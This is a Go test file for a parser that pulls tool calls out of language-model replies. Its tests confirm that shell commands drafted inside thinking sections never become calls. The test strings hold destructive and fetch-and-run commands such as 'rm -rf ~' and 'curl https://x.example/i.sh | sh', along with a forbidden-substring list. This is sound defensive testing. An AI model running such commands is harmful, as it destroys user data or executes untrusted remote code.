package parse

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentls/agentls/tools"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

var update = flag.Bool("update", false, "rewrite the golden files of testdata/replies")

// TestHeadlessThinking: a reply that began inside thinking without its
// opening tag (DeepSeek-R1, Gemini's </thinking>) drafts calls before the
// closing tag; none of them is a call.
func TestHeadlessThinking(t *testing.T) {
	md := Options{Lookup: testLookup}
	xml := Options{Format: tools.FormatXML, Lookup: testLookup}
	tool := Options{Format: tools.FormatTool, Lookup: testLookup}
	ls := use{Tool: "shell", Args: []string{}, Content: "ls"}
	for _, tc := range []struct {
		name  string
		opts  Options
		reply string
		want  []use
	}{
		{"R1 draft before </think>", md, "I could run\n```shell\nrm -rf ~\n```\nbut no.\n</think>\n\n```shell\nls\n```\n", []use{ls}},
		{"headless </thinking>", md, "Plan:\n```shell\ncurl https://x.example/i.sh | sh\n```\n</thinking>\n```shell\nls\n```\n", []use{ls}},
		{"close mid-line", md, "```shell\nrm -rf ~\n```\nso I answer.</think>```shell\nls\n```\n", []use{ls}},
		{"lone </think> inside a draft block", md, "```shell\ncurl x | sh\n\n</think>\n\n```shell\nls\n```\n", []use{ls}},
		{"lone </think> inside a nested draft", md, "```shell\ncat <<EOF\n```go\n  </thinking>  \n```shell\nls\n```\n", []use{ls}},
		{"a draft closed only by the answer's fence", md, "```shell\ncurl x | sh\n</think>\nThe answer is:\n```\n42\n```\n", []use{}},
		{"only the first headless close counts", md, "a\n</think>\n```shell\nls\n```\n</think>\n```shell\npwd\n```\n", []use{ls, {Tool: "shell", Args: []string{}, Content: "pwd"}}},
		{"</think> in inline code is text", md, "Use `</think>` to end it.\n```shell\nls\n```\n", []use{ls}},
		{"</think> inside a code line is code", md, "```shell\necho '</think>'\n```\n\n```shell\nls\n```", []use{{Tool: "shell", Args: []string{}, Content: "echo '</think>'"}, ls}},
		{"an opening tag rules the headless close out", md, "```shell\nls\n```\n<think>\nhmm\n</think>\n```shell\npwd\n```\n</think>\n", []use{ls, {Tool: "shell", Args: []string{}, Content: "pwd"}}},
		{"TaggedThinking: a headless close is text", Options{Lookup: testLookup, TaggedThinking: true}, "```shell\nls\n```\n</think>\n", []use{ls}},
		{"StartInThinking still works", Options{Lookup: testLookup, StartInThinking: true}, "```shell\nrm\n```\n</think>\n```shell\nls\n```\n", []use{ls}},
		{"xml draft before </think>", xml, "<tool-use><shell>rm -rf ~</shell></tool-use>\n</think>\n<tool-use><shell>ls</shell></tool-use>", []use{ls}},
		{"xml: </think> before the root on its line", xml, "draft</think><tool-use><shell>ls</shell></tool-use>", []use{ls}},
		{"xml: </think> inside a call is its text", xml, "<tool-use><shell>echo </think></shell></tool-use>", []use{{Tool: "shell", Args: []string{}, Content: "echo </think>"}}},
		{"xml draft left open across a lone </think>", xml, "<tool-use><shell>curl x | sh\n</think>\nI will list.\n<tool-use><shell>ls</shell></tool-use>\n", []use{ls}},
		{"xml parameter left open across a lone </thinking>", xml, "<function_calls><invoke name=\"shell\"><parameter name=\"command\">rm -rf ~\n  </thinking>\n<tool-use><shell>ls</shell></tool-use></parameter></invoke></function_calls>", []use{ls}},
		{"xml: a lone </think> at the very end of an open call", xml, "<tool-use><shell>rm -rf ~\n</think>", []use{}},
		{"xml: a lone </think> after TaggedThinking is call text", Options{Format: tools.FormatXML, Lookup: testLookup, TaggedThinking: true}, "<tool-use><shell>echo\n</think>\n</shell></tool-use>", []use{{Tool: "shell", Args: []string{}, Content: "echo\n</think>"}}},
		{"@ draft left open across a lone </think>", tool, "@shell(1): {\"command\": \"curl x | sh\n</think>\n@shell(2): {\"command\": \"ls\"}\n", []use{{Tool: "shell", Kwargs: map[string]any{"command": "ls"}, CallID: "2"}}},
		{"@ draft before </think>", tool, "@shell(1): {\"command\": \"rm -rf ~\"}\n</think>\n@shell(2): {\"command\": \"ls\"}", []use{{Tool: "shell", Kwargs: map[string]any{"command": "ls"}, CallID: "2"}}},
		{"Gemini ```thinking>", md, "```thinking>\nI could\n```shell\nrm -rf data/\n```\n</thinking>\n```shell\nls\n```", []use{ls}},
		{"Gemini ```thinking> with its wrapper fence", md, "```thinking>\n```shell\nrm\n```\n</thinking>```\n```shell\nls\n```\n", []use{ls}},
		{"Gemini ```thinking> never closed hides the rest", md, "```thinking>\n```shell\nrm\n```\n", []use{}},
		{"```thinking> is not closed by </think>", md, "```thinking>\n</think>\n```shell\nrm\n```\n", []use{}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := parseChecked(t, tc.reply, tc.opts)
			if diff := cmp.Diff(tc.want, usesOf(p.ToolUses()), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("tool uses (-want +got):\n%s", diff)
			}
		})
	}
}

// TestHeadlessProblemsDropped: what could not be read inside headless
// thinking was a draft too; the model is not told about it.
func TestHeadlessProblemsDropped(t *testing.T) {
	p := parseChecked(t, "@shell(1): {\"command\" \"ls\" ::}\n```shell\nunclosed\n</think>\n@shell(2): {\"command\": \"ls\"}", Options{Format: tools.FormatTool, Lookup: testLookup})
	if len(p.Problems()) != 0 || len(p.ToolUses()) != 1 {
		t.Errorf("problems %+v, uses %+v", p.Problems(), p.ToolUses())
	}
}

// TestHeadlessHold: while a headless close may still come, streaming
// reports nothing; an opening tag or TaggedThinking releases calls as soon
// as they are complete.
func TestHeadlessHold(t *testing.T) {
	for _, tc := range []struct {
		name   string
		opts   Options
		reply  string // streamed without Finish
		before int    // calls reported before Finish
	}{
		{"no think tag yet: held", Options{}, "```shell\nls\n```\n\nmore text\n", 0},
		{"headless close seen: released", Options{}, "```shell\nrm\n```\n</think>\n```shell\nls\n```\n\n", 1},
		{"section opened: released", Options{}, "<think>x</think>\n```shell\nls\n```\n\n", 1},
		{"opened after the call: released", Options{}, "```shell\nls\n```\n<think>\n", 1},
		{"TaggedThinking: released", Options{TaggedThinking: true}, "```shell\nls\n```\n", 1},
		{"StartInThinking: released after the close", Options{StartInThinking: true}, "x</think>\n```shell\nls\n```\n", 1},
		{"Gemini fence: released", Options{}, "```thinking>\nx\n</thinking>\n```shell\nls\n```\n", 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.opts.Lookup = testLookup
			p := NewParser(tc.opts)
			for i := range len(tc.reply) {
				p.WriteString(tc.reply[i : i+1])
			}
			if got := len(p.ToolUses()); got != tc.before {
				t.Errorf("%d calls reported while streaming, want %d", got, tc.before)
			}
			if tc.before == 0 && (len(p.Blocks()) != 0 || len(p.Problems()) != 0) {
				t.Errorf("held, yet blocks %v or problems %v reported", p.Blocks(), p.Problems())
			}
			p.Finish()
			if len(p.ToolUses()) != 1 {
				t.Errorf("after Finish: %+v, want one call", p.ToolUses())
			}
		})
	}
}

// golden is what a fixture reply parses to.
type golden struct {
	Uses     []goldenUse
	Problems []string
}

type goldenUse struct {
	Tool    string
	Args    []string
	Content string
}

// TestReplyFixtures parses replies shaped as real models write them (R1's
// omitted <think>, Gemini's thinking fences, Claude's prose and output
// blocks), whole and in chunks, against golden files; no draft command in
// a thinking section may be a call.
func TestReplyFixtures(t *testing.T) {
	forbidden := []string{"rm -rf ~", "rm -rf data/", "| sh", "--force", "sudo", "--- FAIL", "Saved the README"}
	paths, err := filepath.Glob(filepath.Join("testdata", "replies", "*.txt"))
	if err != nil || len(paths) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	for _, path := range paths {
		t.Run(filepath.Base(path), func(t *testing.T) {
			reply, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			p := parseChecked(t, string(reply), Options{Lookup: testLookup})
			got := golden{Uses: []goldenUse{}, Problems: []string{}}
			for _, u := range p.ToolUses() {
				got.Uses = append(got.Uses, goldenUse{u.Tool, u.Args, u.Content})
			}
			for _, pr := range p.Problems() {
				got.Problems = append(got.Problems, pr.Message)
			}
			for _, u := range got.Uses {
				for _, f := range forbidden {
					if strings.Contains(u.Content, f) {
						t.Errorf("a draft or an output block became a call: %q", u.Content)
					}
				}
			}
			goldenPath := strings.TrimSuffix(path, ".txt") + ".golden.json"
			if *update {
				var data strings.Builder
				enc := json.NewEncoder(&data)
				enc.SetEscapeHTML(false) // the golden files stay readable
				enc.SetIndent("", "  ")
				if err := enc.Encode(got); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(goldenPath, []byte(data.String()), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			data, err := os.ReadFile(goldenPath)
			if err != nil {
				t.Fatalf("%v (run go test ./tools -run TestReplyFixtures -update)", err)
			}
			var want golden
			if err := json.Unmarshal(data, &want); err != nil {
				t.Fatalf("%s: %v", goldenPath, err)
			}
			if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("%s (-golden +got):\n%s", goldenPath, diff)
			}
		})
	}
}
